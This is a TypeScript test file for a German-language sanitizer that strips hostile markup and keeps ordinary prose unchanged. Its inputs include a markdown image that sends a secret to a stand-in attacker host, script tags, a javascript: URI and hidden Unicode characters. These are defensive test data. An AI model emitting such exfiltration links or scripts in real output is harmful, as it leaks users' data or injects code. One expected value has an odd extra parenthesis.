import { describe, expect, it } from 'vitest';
import { plainProse } from './plain-prose.ts';

describe('plainProse', () => {
  it.each([
    ['![x](https://evil.example/p.png?q=geheim) Text.', 'Text.'],
    ['Siehe [hier](https://evil.example/a).', 'Siehe hier.'],
    ['<script>alert(1)</script> Text.', 'alert(1) Text.'],
    ['<scr<b>ipt>x', 'ipt>x'],
    ['Mehr unter https://evil.example/a?b=c.', 'Mehr unter (Verweis entfernt)'],
    ['Mehr unter evil.example/a?b=c', 'Mehr unter (Verweis entfernt)'],
    ['javascript:alert(1)', '(Verweis entfernt))'],
    ['Belegt [1][2].', 'Belegt.'],
    ['Belegt [\u200b1].', 'Belegt.'],
    ['Be\u202elegt\u{e0041}.', 'Belegt.'],
    ['[a]: https://evil.example', ''],
  ])('%s', (text, plain) => {
    expect(plainProse(text, 'de')).toBe(plain);
  });

  it.each([
    'Der Wert liegt bei x < 5 und y > 3.',
    'Die Resolution S/RES/1244 (1999) gilt; der Anteil betrug 3,5 %.',
    'Artikel 5 Abs. 2: „Die Parteien sind sich einig.“',
    'At 10:30 the talks (the third [sic] round) began; and/or later.',
  ])('leaves prose as it is: %s', (text) => {
    expect(plainProse(text, 'de')).toBe(text);
  });
});
